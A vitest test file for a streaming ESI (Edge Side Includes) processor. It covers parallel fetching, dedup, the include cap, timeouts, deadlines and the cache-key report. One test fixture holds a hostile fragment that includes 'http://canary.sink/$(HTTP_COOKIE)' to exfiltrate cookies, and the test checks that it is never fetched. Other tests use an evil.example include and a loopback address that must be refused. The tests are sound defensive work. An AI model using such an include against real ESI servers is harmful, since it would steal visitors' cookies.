/**
 * Assembly behaviour of processEsi: parallel dispatch, ordered streaming, dedup, the fetch cap,
 * timeouts, the page deadline and the report (docs/contracts.md#esi-dialect, #caching-and-keys, #decision-event).
 */
import { expect, it } from 'vitest';
import { processEsi } from '../../../src/core/esi/esi-processor.ts';
import { latin1Views } from '../../../src/core/esi/runtime-views.ts';
import type { FragmentRequest, FragmentResult } from '../../../src/core/esi/fragment-fetcher.ts';
import { assemble, decoder, fakeFetcher, ok, PAGE_URL, SETTINGS, streamOf, VARS } from './esi-test-kit.ts';

const FIVE = Array.from({ length: 5 }, (_, i) => `<esi:include src="/fragments/${i}"/>`).join('');

it('fetches five slow includes in parallel', async () => {
  const fragments = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`/fragments/${i}`, { delayMs: 300, body: String(i) }]));
  const started = performance.now();
  const { html } = await assemble(FIVE, fakeFetcher(fragments), { settings: { fragmentTimeoutMs: 5_000, pageDeadlineMs: 10_000 } });
  expect(html).toBe('01234');
  expect(performance.now() - started).toBeLessThan(1_200);
});

it('streams the bytes before a pending include before it resolves', async () => {
  let release: (result: FragmentResult) => void = () => undefined;
  const pending = new Promise<FragmentResult>((resolve) => (release = resolve));
  const { body } = processEsi({
    body: streamOf(['<p>before</p>', '<esi:include src="/fragments/slow"/>', '<p>after</p>']),
    pageUrl: PAGE_URL, vars: VARS, settings: { ...SETTINGS, fragmentTimeoutMs: 10_000, pageDeadlineMs: 10_000 },
    fetchFragment: () => pending, now: () => performance.now(),
  });
  const reader = body.getReader();
  const first = await reader.read();
  expect(decoder.decode(first.value)).toBe('<p>before</p>');
  release(ok('SLOW'));
  let rest = '';
  for (let step = await reader.read(); !step.done; step = await reader.read()) rest += decoder.decode(step.value);
  expect(rest).toBe('SLOW<p>after</p>');
});

it('writes template chunks that are there at once as one chunk with the Latin-1 search once the page passes one batch, and a chunk before a stall without waiting for the next', async () => {
  // The first 64 KiB go through as they come (a small page pays no batching); past it, batches.
  const opening = '<p>opening</p>'.padEnd(70 * 1024, ' ');
  const pieces = [opening, ...Array.from({ length: 10 }, (_, i) => `<p>${i}</p>`.padEnd(1024, ' '))];
  const together = processEsi({ body: streamOf(pieces), pageUrl: PAGE_URL, vars: VARS, settings: SETTINGS, fetchFragment: fakeFetcher({}), now: () => performance.now(), views: latin1Views });
  const chunks: string[] = [];
  const first = together.body.getReader();
  for (let next = await first.read(); !next.done; next = await first.read()) chunks.push(decoder.decode(next.value));
  expect(chunks).toEqual([opening, pieces.slice(1).join('')]);

  let release: () => void = () => undefined;
  const later = new Promise<void>((resolve) => (release = resolve));
  let sent = 0;
  const stalling = new ReadableStream<Uint8Array>({
    async pull(controller) {
      sent++;
      if (sent === 3) await later;
      if (sent > 3) return controller.close();
      controller.enqueue(new TextEncoder().encode(sent === 1 ? opening : sent === 2 ? '<p>first</p>' : '<p>second</p>'));
    },
  });
  const reader = processEsi({ body: stalling, pageUrl: PAGE_URL, vars: VARS, settings: SETTINGS, fetchFragment: fakeFetcher({}), now: () => performance.now(), views: latin1Views }).body.getReader();
  expect(decoder.decode((await reader.read()).value)).toBe(opening);
  expect(decoder.decode((await reader.read()).value)).toBe('<p>first</p>');
  release();
  expect(decoder.decode((await reader.read()).value)).toBe('<p>second</p>');
});

it('gathers template chunks that each come through the event loop, as the reads of a host body do, into fewer writes with the Latin-1 search', async () => {
  const opening = '<p>opening</p>'.padEnd(70 * 1024, ' ');
  const pieces = [opening, ...Array.from({ length: 20 }, (_, i) => `<p>${i}</p>`.padEnd(1024, ' '))];
  let next = 0;
  const eventLoop = new ReadableStream<Uint8Array>({
    async pull(controller) {
      await new Promise((resolve) => setImmediate(resolve));
      const piece = pieces[next++];
      if (piece === undefined) controller.close();
      else controller.enqueue(new TextEncoder().encode(piece));
    },
  });
  const reader = processEsi({ body: eventLoop, pageUrl: PAGE_URL, vars: VARS, settings: SETTINGS, fetchFragment: fakeFetcher({}), now: () => performance.now(), views: latin1Views }).body.getReader();
  const chunks: string[] = [];
  for (let step = await reader.read(); !step.done; step = await reader.read()) chunks.push(decoder.decode(step.value));
  expect(chunks.join('')).toBe(pieces.join(''));
  expect(chunks.length).toBeLessThan(pieces.length / 2);
});

it('tokenizes a page smaller than one batch chunk by chunk', async () => {
  const pieces = ['<p>a</p>', '<p>b</p>', '<p>c</p>'];
  const reader = processEsi({ body: streamOf(pieces), pageUrl: PAGE_URL, vars: VARS, settings: SETTINGS, fetchFragment: fakeFetcher({}), now: () => performance.now(), views: latin1Views }).body.getReader();
  const chunks: string[] = [];
  for (let next = await reader.read(); !next.done; next = await reader.read()) chunks.push(decoder.decode(next.value));
  expect(chunks).toEqual(pieces);
});

it('dispatches an include before the template has finished arriving', async () => {
  const calls: string[] = [];
  let finishTemplate: () => void = () => undefined;
  const tail = new Promise<void>((resolve) => (finishTemplate = resolve));
  const template = new ReadableStream<Uint8Array>({
    async pull(controller) {
      if (calls.length === 0 && controller.desiredSize !== null) {
        controller.enqueue(new TextEncoder().encode('<esi:include src="/fragments/a"/>'));
        await tail;
        controller.close();
      }
    },
  });
  const { body } = processEsi({
    body: template, pageUrl: PAGE_URL, vars: VARS, settings: SETTINGS, now: () => performance.now(),
    fetchFragment: (request: FragmentRequest) => {
      calls.push(request.url.pathname);
      return Promise.resolve(ok('A'));
    },
  });
  await new Promise((resolve) => setTimeout(resolve, 20));
  expect(calls).toEqual(['/fragments/a']);
  finishTemplate();
  expect(decoder.decode(await new Response(body).arrayBuffer())).toBe('A');
});

it('fetches identical final URLs once and counts them once', async () => {
  const fetcher = fakeFetcher({ '/fragments/a?s=runner': 'A' });
  const { html, report } = await assemble('<esi:include src="/fragments/a?s=$(SEGMENT)"/><esi:include src="https://www.example.com/fragments/a?s=runner"/>', fetcher);
  expect(html).toBe('AA');
  expect(fetcher.calls).toHaveLength(1);
  expect(report.fetches).toBe(1);
  expect(report.fragments.map((f) => f.outcome)).toEqual(['ok', 'ok']);
});

it('skips includes beyond maxIncludes without fetching them or their alt', async () => {
  const fetcher = fakeFetcher({ '/fragments/0': '0', '/fragments/1': '1', '/fragments/2': '2', '/fragments/alt': 'ALT' });
  const template = '<esi:include src="/fragments/0"/><esi:include src="/fragments/1"/><esi:include src="/fragments/2" alt="/fragments/alt"/>';
  const { html, report } = await assemble(template, fetcher, { settings: { maxIncludes: 2 } });
  expect(html).toBe('01');
  expect(fetcher.calls.map((call) => call.url.pathname)).toEqual(['/fragments/0', '/fragments/1']);
  expect(report.fragments[2]?.outcome).toBe('skipped');
  expect(report.fetches).toBe(2);
});

it.each([
  ['byte views', undefined],
  ['Latin-1 views', latin1Views],
])('reports an include skipped past the cap alike at the root and inside a try, keeping the text around it (%s): its path without the query, no time, PASS', async (_name, views) => {
  const skipped = 'a<esi:include src="/fragments/2?x=1" onerror="continue"/>b<esi:include src="/fragments/3?"/>c<esi:include src=\'/fragments/4\'/>d';
  const pages = [[`<esi:include src="/fragments/0"/>${skipped}`, `0${skipped.replace(/<[^>]*>/g, '')}`], [`<esi:include src="/fragments/0"/><esi:try><esi:attempt>${skipped}</esi:attempt><esi:except>E</esi:except></esi:try>`, '0E']];
  for (const [template, expected] of pages) {
    const { html, report } = await assemble(template!, fakeFetcher({ '/fragments/0': '0' }), { settings: { maxIncludes: 1 }, views, whole: true });
    expect(html).toBe(expected);
    expect(report.fragments.slice(1)).toEqual(['/fragments/2', '/fragments/3', '/fragments/4'].map((src) => ({ src, outcome: 'skipped', ms: 0, cache: 'PASS' })));
  }
});

it('counts alt fetches toward the cap', async () => {
  const fetcher = fakeFetcher({ '/fragments/alt': 'ALT', '/fragments/b': 'B' });
  const { html, report } = await assemble('<esi:include src="/fragments/none" alt="/fragments/alt"/><esi:include src="/fragments/b"/>', fetcher, { settings: { maxIncludes: 2 } });
  expect(html).toBe('B');
  expect(fetcher.calls.map((call) => call.url.pathname)).toEqual(['/fragments/none', '/fragments/b']);
  expect(report.fragments[0]?.outcome).toBe('error');
});

it('times out an include after its timeout attribute and takes the alt', async () => {
  const fetcher = fakeFetcher({ '/fragments/slow': { delayMs: 2_000, body: 'SLOW' }, '/fragments/alt': 'ALT' });
  const started = performance.now();
  const { html, report } = await assemble('<esi:include src="/fragments/slow" alt="/fragments/alt" timeout="50"/>', fetcher, { settings: { fragmentTimeoutMs: 5_000 } });
  expect(html).toBe('ALT');
  expect(report.fragments[0]?.outcome).toBe('alt');
  expect(fetcher.calls[0]?.timeoutMs).toBe(50);
  expect(performance.now() - started).toBeLessThan(1_500);
});

it('applies settings.fragmentTimeoutMs without a timeout attribute', async () => {
  const fetcher = fakeFetcher({ '/fragments/slow': { delayMs: 2_000, body: 'SLOW' } });
  const { html, report } = await assemble('a<esi:include src="/fragments/slow"/>b', fetcher, { settings: { fragmentTimeoutMs: 40 } });
  expect(html).toBe('ab');
  expect(report.fragments[0]?.outcome).toBe('timeout');
  expect(report.minTtlMs).toBeNull();
});

it('bounds every include by the page deadline', async () => {
  const fragments = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`/fragments/${i}`, { delayMs: 3_000, body: String(i) }]));
  const started = performance.now();
  const template = `<esi:try><esi:attempt>${FIVE}</esi:attempt><esi:except>FALLBACK</esi:except></esi:try>`;
  const { html, report } = await assemble(template, fakeFetcher(fragments), { settings: { fragmentTimeoutMs: 10_000, pageDeadlineMs: 100 } });
  expect(html).toBe('FALLBACK');
  expect(report.fragments.every((f) => f.outcome === 'timeout')).toBe(true);
  expect(performance.now() - started).toBeLessThan(2_000);
});

it('fetches nothing in unselected branches, removed blocks or unused excepts', async () => {
  const fetcher = fakeFetcher({ '/fragments/a': 'A' });
  const template = "<esi:choose><esi:when test=\"'a'=='b'\"><esi:include src=\"/fragments/x\"/></esi:when><esi:otherwise><esi:include src=\"/fragments/a\"/></esi:otherwise></esi:choose>" +
    '<esi:remove><esi:include src="/fragments/y"/></esi:remove>' +
    '<esi:try><esi:attempt>ok</esi:attempt><esi:except><esi:include src="/fragments/z"/></esi:except></esi:try>';
  const { html, report } = await assemble(template, fetcher);
  expect(html).toBe('Aok');
  expect(fetcher.calls.map((call) => call.url.pathname)).toEqual(['/fragments/a']);
  expect(report.fragments).toHaveLength(1);
});

it('never fetches includes found inside a fragment', async () => {
  const fetcher = fakeFetcher({ '/fragments/evil': '<esi:include src="http://canary.sink/$(HTTP_COOKIE)"/><!--esi <esi:include src="/fragments/a"/> -->' });
  const { html } = await assemble('<esi:include src="/fragments/evil"/>', fetcher);
  expect(fetcher.calls).toHaveLength(1);
  expect(html).toContain('$(HTTP_COOKIE)');
});

it('marks includes using $(VISITOR) per-visitor and never shares them', async () => {
  const fetcher = fakeFetcher({ '/fragments/recs?v=u00042': 'R', '/fragments/b': 'B' });
  const { html, report } = await assemble('<esi:include src="/fragments/recs?v=$(VISITOR)"/><esi:include src="/fragments/b"/>', fetcher);
  expect(html).toBe('RB');
  expect(fetcher.calls.map((call) => call.perVisitor)).toEqual([true, false]);
  expect(report.perVisitor).toBe(true);
});

it('reports the smallest TTL and the union of surrogate keys of the used fragments', async () => {
  const fetcher = fakeFetcher({ '/fragments/a?utm=1': ok('A', 30_000, ['k1', 'shared']), '/fragments/b': ok('B', 10_000, ['k2', 'shared']) });
  const { report } = await assemble('<esi:include src="/fragments/a?utm=1"/><esi:include src="/fragments/b"/>', fetcher);
  expect(report.minTtlMs).toBe(10_000);
  expect(report.surrogateKeys.sort()).toEqual(['k1', 'k2', 'shared']);
  expect(report.fragments.map((f) => f.src)).toEqual(['/fragments/a', '/fragments/b']);
});

it('reports an infinite TTL when the page used no fragment and null when one is uncacheable', async () => {
  expect((await assemble('plain', fakeFetcher({}))).report.minTtlMs).toBe(Number.POSITIVE_INFINITY);
  expect((await assemble('<esi:include src="/fragments/a"/>', fakeFetcher({ '/fragments/a': ok('A', null) }))).report.minTtlMs).toBeNull();
});

it('leaves out the keys of an attempt replaced by its except, and does not let the page be cached', async () => {
  const fetcher = fakeFetcher({ '/fragments/a': ok('A', 5_000, ['dropped']), '/fragments/b': ok('B', 60_000, ['kept']) });
  const template = '<esi:try><esi:attempt><esi:include src="/fragments/a"/><esi:include src="/fragments/none"/></esi:attempt><esi:except>E</esi:except></esi:try><esi:include src="/fragments/b"/>';
  const { html, report } = await assemble(template, fetcher);
  expect(html).toBe('EB');
  expect(report.surrogateKeys).toEqual(['kept']);
  expect(report.minTtlMs).toBeNull();
});

it('keeps the keys of an attempt kept by onerror="continue"', async () => {
  const fetcher = fakeFetcher({ '/fragments/a': ok('A', 5_000, ['a']) });
  const template = '<esi:try><esi:attempt><esi:include src="/fragments/a"/><esi:include src="http://evil.example/" onerror="continue"/></esi:attempt><esi:except>E</esi:except></esi:try>';
  const { html, report } = await assemble(template, fetcher);
  expect(html).toBe('A');
  expect(report.surrogateKeys).toEqual(['a']);
  expect(report.minTtlMs).toBe(5_000);
});

it('ends the page gracefully past the template byte cap', async () => {
  const big = new Uint8Array(3 * 1024 * 1024).fill(0x61);
  const problems: string[] = [];
  const { body } = processEsi({ body: streamOf([big]), pageUrl: PAGE_URL, vars: VARS, settings: SETTINGS, fetchFragment: fakeFetcher({}), now: () => 0, onProblem: (p) => problems.push(p) });
  const bytes = new Uint8Array(await new Response(body).arrayBuffer());
  expect(bytes.length).toBe(2 * 1024 * 1024);
  expect(problems.join()).toContain('template over');
});

it('survives a fetcher that throws', async () => {
  const { html, report } = await assemble('a<esi:include src="/fragments/a"/>b', () => Promise.reject(new Error('boom')));
  expect(html).toBe('ab');
  expect(report.fragments[0]?.outcome).toBe('error');
});

it.each([
  { name: 'refused', src: 'http://127.0.0.1/x', settings: {}, ttl: 60_000 },
  { name: 'skipped past the fetch cap', src: '/fragments/late', settings: { maxIncludes: 1 }, ttl: 60_000 },
  { name: 'past the page deadline', src: '/fragments/late', settings: { pageDeadlineMs: 0 }, ttl: null },
])('keeps the caching facts of the other includes when one at the root is $name at once', async ({ src, settings, ttl }) => {
  const fetcher = fakeFetcher({ '/fragments/a': ok('A', 60_000, ['a']), '/fragments/late': 'LATE' });
  const { html, report } = await assemble(`[<esi:include src="/fragments/a"/>|<esi:include src="${src}"/>]`, fetcher, { settings });
  expect(html).toBe(ttl === null ? '[|]' : '[A|]');
  expect(report.minTtlMs).toBe(ttl);
  expect(report.fragments).toHaveLength(2);
});
